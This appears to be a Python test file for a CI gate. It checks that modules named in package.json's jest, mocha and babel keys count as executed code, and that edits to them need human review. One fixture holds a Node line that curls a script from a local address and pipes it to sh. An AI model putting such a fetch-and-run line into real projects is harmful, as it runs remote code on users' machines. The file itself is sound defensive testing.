"""Attack 44: a package.json's `babel`, `jest` and `mocha` keys where the tool runs directly.

Jest reads its settings from package.json's `jest` key, Mocha from its `mocha` key and Babel from its `babel` key
(each tool's documented lookup) wherever the tool runs in that folder, through npm or not. The walk read those keys
only where npm reads the package.json (`npm test`), so `npx mocha` with `"mocha": {"require": ["./test/setup.js"]}`,
`npx jest` with `"jest": {"setupFiles": [...]}` and `npx babel src` with `"babel": {"plugins": [...]}` left the named
module `src`, and an edit to it was an exit-0 allow (`gate --tree` on main 55d0fa69). Now such a package.json is
read for those keys alone: a tool reads no scripts, workspaces or dependencies of it (over-reads 2's unit: its
scripts stay unread unless npm runs them).
"""

from __future__ import annotations

import json
from pathlib import Path

from citools import BLOCK_DEFINITIONS, one_tree_runs
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

SETUP = "module.exports = {};\n"
EVIL = "require('child_process').execSync('curl https://127.0.0.1:9/i | sh');\n" + SETUP
# (the tool's key, its settings naming {p}, the lines that run the tool)
KEYS = [
    ("mocha", {"require": ["{p}"]}, ["npx mocha", "mocha --recursive", "yarn mocha", "node_modules/.bin/mocha"]),
    ("mocha", {"require": "{p}"}, ["npx mocha"]),
    ("jest", {"setupFiles": ["{p}"]}, ["npx jest", "jest --ci", "pnpm exec jest"]),
    ("jest", {"globalSetup": "{p}", "testEnvironment": "node"}, ["npx jest"]),
    ("jest", {"transform": {"^.+\\.js$": "{p}"}}, ["npx jest"]),
    ("babel", {"plugins": ["{p}"]}, ["npx babel src -d lib"]),
    ("babel", {"presets": [["{p}", {"x": 1}]]}, ["npx jest"]),
]
TARGET = "tools/setup.js"


def _settings(value: object) -> object:
    return json.loads(json.dumps(value).replace("{p}", "./" + TARGET))


CASES = [(key, value, line) for key, value, lines in KEYS for line in lines] + \
    [("mocha", {"require": ["{p}"]}, "cd web && npx mocha")]


@each_case(("key", "value", "line"), CASES)
def test_the_module_a_package_key_names_is_run(key: str, value: object, line: str) -> None:
    folder = "web/" if line.startswith("cd web") else ""
    for definition, template in BLOCK_DEFINITIONS[:2]:
        tree = {definition: template.format(line=line),
                f"{folder}package.json": json.dumps({"name": "x", key: _settings(value)}), f"{folder}{TARGET}": SETUP}
        runs = one_tree_runs(tree)
        assert isinstance(runs, dict) and f"{folder}{TARGET}" in runs, (definition, sorted(runs) if isinstance(
            runs, dict) else runs)


# a tool run directly reads no script, workspace or dependency of the package.json
def test_a_tool_reads_no_script_of_the_package() -> None:
    definition, template = BLOCK_DEFINITIONS[0]
    manifest = {"name": "x", "scripts": {"deploy": "bash tools/deploy.sh", "postinstall": "node tools/post.js"},
                "workspaces": ["packages/*"], "jest": {"testMatch": ["**/tools/deploy.sh"]}}
    runs = one_tree_runs({definition: template.format(line="npx jest && npx mocha"),
                          "package.json": json.dumps(manifest), "tools/deploy.sh": "echo\n", "tools/post.js": SETUP,
                          "packages/a/package.json": '{"name": "a", "scripts": {"test": "bash ../../tools/a.sh"}}',
                          "tools/a.sh": "echo\n"})
    assert isinstance(runs, dict) and not {"tools/deploy.sh", "tools/post.js", "tools/a.sh"} & set(runs), sorted(runs)


# a tool that is not run reads nothing of the package's keys
def test_no_tool_no_keys() -> None:
    definition, template = BLOCK_DEFINITIONS[0]
    runs = one_tree_runs({definition: template.format(line="npx tsc -p ."),
                          "package.json": json.dumps({"name": "x", "jest": _settings({"setupFiles": ["{p}"]})}),
                          TARGET: SETUP})
    assert isinstance(runs, dict) and TARGET not in runs, sorted(runs)


@each_case(("key", "value", "line"), [("mocha", {"require": ["{p}"]}, "npx mocha"),
                                      ("jest", {"setupFiles": ["{p}"]}, "npx jest"),
                                      ("babel", {"plugins": ["{p}"]}, "npx babel src -d lib")])
def test_the_edited_module_needs_a_human(tmp_path: Path, key: str, value: object, line: str) -> None:
    base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].format(line=line),
            "package.json": json.dumps({"name": "x", key: _settings(value)}), TARGET: SETUP}
    _, first, second = two_commits(tmp_path, base, {TARGET: EVIL})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]
